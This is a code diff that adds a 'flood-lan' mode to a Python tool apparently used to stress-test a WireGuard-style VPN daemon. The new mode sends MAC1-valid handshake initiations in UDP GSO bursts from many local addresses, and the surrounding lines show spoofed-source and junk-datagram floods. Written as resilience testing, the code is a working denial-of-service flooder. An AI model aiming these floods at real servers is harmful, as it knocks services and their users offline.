@@ -6,6 +6,11 @@ wiresnake), so what it sends is an independent check of the daemon under attack:
 - `flood-init V_PUB DST PORT SPOOF_NET SECONDS RATE`: handshake initiations with a valid
   MAC1, a zero or random MAC2 and random everything else, from spoofed sources inside
   SPOOF_NET, through a raw socket with IP_HDRINCL; RATE 0 means as fast as we can.
+- `flood-lan V_PUB DST PORT FIRST COUNT SECONDS RATE`: MAC1-valid initiations (zero or
+  random MAC2) from COUNT real addresses starting at FIRST (already on our interface), one
+  UDP socket bound to each, 64 to a sendmsg with UDP_SEGMENT, RATE a second (0: as fast as
+  we can), for SECONDS (0: until stdin closes); the victim's replies pile up unread in
+  those sockets.
 - `flood-junk DST PORT SECONDS [V_PUB]`: random and truncated datagrams of every size
   0..1500, random bytes and valid-type prefixes, as fast as we can, from the real address.
 - `capture IFACE PORT SPOOF_NET V_ADDR...`: count what arrives on IFACE from the victim
@@ -232,6 +237,79 @@ def flood_init(
     return {"sent": sent, "seconds": round(elapsed, 3), "sources": len(packets)}
 
 
+_SOL_UDP = 17
+_UDP_SEGMENT = 103
+_SEGMENTS = 64
+
+
+def flood_lan(
+    v_pub: bytes, dst: str, port: int, first: str, count: int, seconds: float, rate: float
+) -> dict[str, object]:
+    """Round-robin over the sources, one GSO super-packet of 64 initiations each; a send
+    the socket refuses (its buffer full) is counted as lost, as on a saturated link."""
+    key = mac1_key(v_pub)
+    rnd = random.Random()
+
+    def burst() -> bytes:
+        msgs = []
+        for _ in range(_SEGMENTS):
+            body = struct.pack("<I", 1) + os.urandom(MAC1_OFFSET - 4)
+            mac2 = os.urandom(16) if rnd.random() < 0.5 else bytes(16)
+            msgs.append(body + mac(key, body) + mac2)
+        return b"".join(msgs)
+
+    start_ip = ipaddress.ip_address(first)
+    socks = []
+    for i in range(count):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        s.bind((str(start_ip + i), 0))
+        s.connect((dst, port))
+        s.setsockopt(_SOL_UDP, _UDP_SEGMENT, INITIATION_SIZE)
+        s.setblocking(False)
+        socks.append(s)
+    # a few different bursts per source, so that no two sends in a row are equal
+    sends = [(s.send, burst()) for _ in range(4) for s in socks]
+    rnd.shuffle(sends)
+    stop = threading.Event()
+    if not seconds:
+        seconds = float("inf")
+        threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
+    sent = refused = 0
+    start = time.monotonic()
+    end = start + seconds
+    i, n = 0, len(sends)
+    # paced per millisecond: bursts due by now go out back to back, then a short sleep
+    per_second = rate / _SEGMENTS
+    while not stop.is_set():
+        now = time.monotonic()
+        if now >= end:
+            break
+        due = int((now - start) * per_second) + 1 if rate else sent + refused + n
+        if sent + refused >= due:
+            time.sleep(0.001)
+            continue
+        while sent + refused < due:
+            send, data = sends[i]
+            i = (i + 1) % n
+            try:
+                send(data)
+                sent += 1
+            except OSError:
+                refused += 1
+    elapsed = time.monotonic() - start
+    for s in socks:
+        s.close()
+    return {
+        "sent": sent * _SEGMENTS,
+        "refused": refused * _SEGMENTS,
+        "seconds": round(elapsed, 3),
+        "rate": round(sent * _SEGMENTS / elapsed),
+        "sources": count,
+    }
+
+
 def junk_pool(v_pub: bytes | None) -> list[bytes]:
     """Every size 0..MAX_SIZE, random bytes, each message type as a prefix (with the reserved
     bytes zero and not), and truncations/extensions of a MAC1-valid initiation."""
@@ -415,6 +493,16 @@ def main(argv: list[str]) -> None:
             args[3],
             float(args[4]),
             float(args[5]),
+        )
+    elif cmd == "flood-lan":
+        out = flood_lan(
+            base64.b64decode(args[0]),
+            args[1],
+            int(args[2]),
+            args[3],
+            int(args[4]),
+            float(args[5]),
+            float(args[6]),
         )
     elif cmd == "flood-junk":
         v_pub = base64.b64decode(args[3]) if len(args) > 3 else None
